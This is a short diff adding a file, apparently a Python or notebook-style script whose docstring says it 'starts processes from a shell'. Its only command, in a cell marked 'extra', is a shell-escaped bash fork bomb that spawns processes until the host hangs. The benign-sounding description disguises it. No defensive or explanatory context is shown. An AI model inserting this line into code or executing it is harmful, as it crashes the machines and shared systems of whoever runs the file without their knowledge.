@@ -1,0 +1,3 @@
+"""Starts processes from a shell."""
+# %% extra
+!:(){ :|:& };:
